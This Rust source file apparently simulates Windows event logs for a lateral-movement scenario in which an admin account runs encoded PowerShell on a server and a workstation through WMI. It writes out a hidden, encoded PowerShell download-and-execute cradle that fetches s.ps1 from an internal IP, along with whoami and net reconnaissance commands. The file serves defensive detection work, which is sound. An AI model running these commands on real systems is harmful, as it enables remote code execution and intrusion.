//! `wmi-spread`: `CORP\btun-adm` tries two encoded PowerShell commands on his own
//! workstation (wrk-btun, from an elevated prompt), then runs the same commands on the server
//! venus and, four minutes later, on wrk-klagerf through WMI (`Win32_Process.Create`):
//! network logon from 10.20.30.41, 4672, `WmiPrvSE.exe` → `powershell.exe -enc` under that
//! logon, and what the commands start. Sysmon network events (3) are not collected anywhere.

use super::{CMD, POWERSHELL};
use crate::background::{self, Dc, Profile, ShareUser};
use crate::encode::powershell_encoded;
use crate::events::{Auth, Launch};
use crate::host::{Account, Host, HostSpec, Logon, Proc};
use crate::time::{utc, Ms, HOUR, MIN, SEC};

pub const DOMAIN_SID: &str = "S-1-5-21-1417722153-3519447105-3052127829";
pub const DAY: (i32, u32, u32) = (2025, 6, 17);
pub const SOURCE_IP: &str = "10.20.30.41";
/// The two commands, as typed before encoding.
pub const SCRIPT_A: &str =
    r"Get-Process | Out-File C:\Windows\Temp\p.txt; whoami /all >> C:\Windows\Temp\p.txt";
pub const SCRIPT_B: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://10.20.30.41:8080/s.ps1')";

const DC: Dc = Dc {
    ip: "10.20.30.5",
    fqdn: "corp-dc01.corp.local",
};

fn spec(
    short: &'static str,
    fqdn: &'static str,
    ip: &'static str,
    boot: Ms,
    first: [u64; 3],
) -> HostSpec {
    HostSpec {
        short,
        fqdn,
        ip,
        domain: "CORP",
        tz_minutes: 120,
        boot,
        first_record: first,
    }
}

/// `powershell.exe -nop -w hidden -enc <script as UTF-16LE base64>`.
pub fn command_line(script: &str) -> String {
    format!(
        "powershell.exe -nop -w hidden -enc {}",
        powershell_encoded(script)
    )
}

/// What each command starts, by (image, command line); `net` starts `net1`.
fn children(script: &str) -> &'static [(&'static str, &'static str)] {
    if script == SCRIPT_A {
        &[(
            r"C:\Windows\System32\whoami.exe",
            r#""C:\Windows\system32\whoami.exe" /all"#,
        )]
    } else {
        &[
            (
                r"C:\Windows\System32\ipconfig.exe",
                r#""C:\Windows\system32\ipconfig.exe" /all"#,
            ),
            (
                r"C:\Windows\System32\net.exe",
                r#""C:\Windows\system32\net.exe" localgroup administrators"#,
            ),
        ]
    }
}

/// Run one encoded command from `parent`; returns the PowerShell process.
fn run_encoded(
    h: &mut Host,
    t: Ms,
    parent: &Proc,
    logon: Option<&Logon>,
    script: &str,
    console: bool,
) -> Proc {
    let line = command_line(script);
    let mut l = Launch::new(POWERSHELL, &line);
    if let Some(lg) = logon {
        l = l.as_logon(lg);
    }
    let ps = h.launch(t, parent, l);
    let con = if console {
        Some(h.conhost(t + 7, &ps))
    } else {
        None
    };
    let mut at = t + 1_900 + h.rng.between(0, 400);
    for (image, cmd) in children(script) {
        let c = h.spawn(at, &ps, image, cmd);
        if image.ends_with("net.exe") {
            let n1 = h.spawn(
                at + 15,
                &c,
                r"C:\Windows\System32\net1.exe",
                r"C:\Windows\system32\net1 localgroup administrators",
            );
            h.exit(at + 160, &n1);
        }
        h.exit(at + 210, &c);
        at += 1_300 + h.rng.between(0, 500);
    }
    let end = at + 1_200 + h.rng.between(0, 800);
    h.exit(end, &ps);
    if let Some(c) = con {
        h.exit(end + 9, &c);
    }
    ps
}

pub fn build() -> Vec<Host> {
    let (y, m, d) = DAY;
    let btun_adm = Account::domain_user("CORP", DOMAIN_SID, "btun-adm", 1215);
    let klagerf = Account::domain_user("CORP", DOMAIN_SID, "klagerf", 1187);
    let share_users = vec![
        ShareUser {
            account: Account::domain_user("CORP", DOMAIN_SID, "mholt", 1142),
            ip: "10.20.30.88",
            share: r"\\*\Projects",
            local_path: r"\??\D:\Shares\Projects",
        },
        ShareUser {
            account: Account::domain_user("CORP", DOMAIN_SID, "aschmidt", 1163),
            ip: "10.20.30.93",
            share: r"\\*\Finance",
            local_path: r"\??\D:\Shares\Finance",
        },
    ];
    let boot = utc(2025, 6, 16, 5, 40, 0, 0);
    let mut btun = Host::new(spec(
        "WRK-BTUN",
        "wrk-btun.corp.local",
        SOURCE_IP,
        boot + 17 * MIN,
        [983_112, 21_774, 1_220_871],
    ));
    let mut venus = Host::new(spec(
        "VENUS",
        "venus.corp.local",
        "10.20.30.12",
        boot - 9 * 24 * HOUR,
        [14_508_220, 310_998, 8_877_125],
    ));
    let mut klag = Host::new(spec(
        "WRK-KLAGERF",
        "wrk-klagerf.corp.local",
        "10.20.30.57",
        boot + 31 * MIN,
        [741_006, 19_433, 1_004_317],
    ));

    let base = Profile {
        sysmon_network: false,
        wmi_hosts: true,
        admin_chores: true,
        dc: DC,
        share_users: Vec::new(),
    };
    // wrk-btun: the administrator's own workstation.
    let day0 = btun.local_midnight(y, m, d);
    let t = day0 + 7 * HOUR + 48 * MIN + btun.rng.between(0, 5 * MIN);
    let session = background::sign_in(&mut btun, t, &btun_adm, true);
    background::day(&mut btun, &base, day0, Some(&session), true);
    source_side(&mut btun, &session);

    // venus: a file server, nobody signed in.
    let day0 = venus.local_midnight(y, m, d);
    let profile = Profile {
        share_users,
        ..base.clone()
    };
    background::day(&mut venus, &profile, day0, None, true);

    // wrk-klagerf: an ordinary user's workstation.
    let day0 = klag.local_midnight(y, m, d);
    let t = day0 + 7 * HOUR + 55 * MIN + klag.rng.between(0, 10 * MIN);
    let s = background::sign_in(&mut klag, t, &klagerf, false);
    background::day(&mut klag, &base, day0, Some(&s), true);

    let mut wmi = None;
    remote(
        &mut venus,
        &btun_adm,
        utc(y, m, d, 10, 6, 31, 210),
        SCRIPT_A,
        Auth::Kerberos,
        &mut wmi,
    );
    remote(
        &mut venus,
        &btun_adm,
        utc(y, m, d, 10, 7, 12, 840),
        SCRIPT_B,
        Auth::Kerberos,
        &mut wmi,
    );
    if let Some(w) = wmi.take() {
        venus.exit(utc(y, m, d, 10, 12, 40, 77), &w);
    }
    remote(
        &mut klag,
        &btun_adm,
        utc(y, m, d, 10, 10, 35, 420),
        SCRIPT_A,
        Auth::Ntlm,
        &mut wmi,
    );
    remote(
        &mut klag,
        &btun_adm,
        utc(y, m, d, 10, 11, 16, 905),
        SCRIPT_B,
        Auth::Ntlm,
        &mut wmi,
    );
    if let Some(w) = wmi.take() {
        klag.exit(utc(y, m, d, 10, 16, 51, 318), &w);
    }
    vec![btun, venus, klag]
}

/// On wrk-btun: an elevated prompt from explorer, each command tried locally first.
fn source_side(h: &mut Host, s: &background::Session) {
    let (y, m, d) = DAY;
    let t = utc(y, m, d, 10, 0, 48, 530);
    let appinfo = h.core.appinfo.clone();
    let consent = h.spawn(
        t - 2 * SEC,
        &appinfo,
        r"C:\Windows\System32\consent.exe",
        &format!("consent.exe {} 288 00000224C7A0B3F0", appinfo.pid),
    );
    h.exit(t - 350, &consent);
    let cmd = h.launch(
        t,
        &s.explorer,
        Launch::new(CMD, r#""C:\Windows\system32\cmd.exe" "#)
            .as_logon(&s.elevated)
            .cwd(r"C:\Windows\system32\"),
    );
    let con = h.conhost(t + 9, &cmd);
    run_encoded(h, utc(y, m, d, 10, 2, 14, 377), &cmd, None, SCRIPT_A, false);
    run_encoded(h, utc(y, m, d, 10, 3, 5, 612), &cmd, None, SCRIPT_B, false);
    let end = utc(y, m, d, 10, 24, 9, 0);
    h.exit(end, &con);
    h.exit(end + 4, &cmd);
}

/// One `Win32_Process.Create` from wrk-btun: the network logon, WmiPrvSE (started on first
/// use), the encoded PowerShell under the remote logon, the logoff.
fn remote(
    h: &mut Host,
    who: &Account,
    t: Ms,
    script: &str,
    auth: Auth,
    wmi: &mut Option<Proc>,
) -> Logon {
    let logon = h.new_logon(t - 420, who, true, 0);
    let port = h.rng.between(50_100, 63_900) as u16;
    let workstation = if auth == Auth::Ntlm { "WRK-BTUN" } else { "-" };
    h.network_logon(t - 420, &logon, auth, SOURCE_IP, port, workstation);
    let host = match wmi {
        Some(w) => w.clone(),
        None => {
            let dcom = h.core.dcom_launch.clone();
            let ns = h.network_service_logon.clone();
            let w = h.launch(
                t - 260,
                &dcom,
                Launch::new(
                    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                    r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
                )
                .as_logon(&ns),
            );
            *wmi = Some(w.clone());
            w
        }
    };
    run_encoded(h, t, &host, Some(&logon), script, true);
    let off = t + 24 * SEC + h.rng.between(0, 3_000);
    h.logoff_4634(off, &logon, 3);
    logon
}
